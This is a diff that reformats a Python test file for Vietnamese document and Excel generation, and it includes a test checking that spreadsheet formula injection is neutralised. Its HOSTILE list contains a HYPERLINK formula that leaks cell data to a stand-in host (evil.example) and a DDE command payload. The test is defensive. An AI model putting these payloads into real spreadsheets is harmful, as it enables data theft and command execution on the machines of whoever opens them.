@@ -27,8 +27,9 @@ def test_dates_and_numbers_are_written_the_vietnamese_way() -> None:
 
 def test_the_heading_carries_the_issuer_the_motto_the_reference_and_the_place_date() -> None:
     document = documents.new_document()
-    issuer = documents.Issuer(parent_name="Ủy ban nhân dân tỉnh Hưng Yên", name="Sở Tư pháp", place="Hưng Yên",
-                              collective=False)
+    issuer = documents.Issuer(
+        parent_name="Ủy ban nhân dân tỉnh Hưng Yên", name="Sở Tư pháp", place="Hưng Yên", collective=False
+    )
     documents.heading(document, issuer, "Số: 12/TB-STP", dt.date(2026, 3, 2))
     buffer = io.BytesIO()
     document.save(buffer)
@@ -42,8 +43,17 @@ def test_the_heading_carries_the_issuer_the_motto_the_reference_and_the_place_da
 # --- Excel: user text stays text ---------------------------------------------------------------
 
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+84 912 345 678", "-2+3",
-    "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0+1", "Nguyễn Văn An", "",
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+84 912 345 678",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u00a0+1",
+    "Nguyễn Văn An",
+    "",
 ]
 
 
@@ -64,7 +74,11 @@ def test_text_is_written_as_text_and_reads_back_exactly() -> None:
     assert [cell.data_type for cell in cells if cell.value is not None and cell.data_type == "f"] == []
     assert [cell.value for cell in read[1]] == [value or None for value in HOSTILE]
     assert [read["A2"].value, read["B2"].value, read["C2"].value, read["D2"].value] == [
-        "=1+1", 7, dt.datetime(2026, 3, 2), "=AB"]
+        "=1+1",
+        7,
+        dt.datetime(2026, 3, 2),
+        "=AB",
+    ]
     assert (read["B2"].data_type, read["C2"].data_type) == ("n", "d")
     # What a spreadsheet would evaluate when typed is marked as text (the "'" prefix Excel shows);
     # ordinary text is left alone.
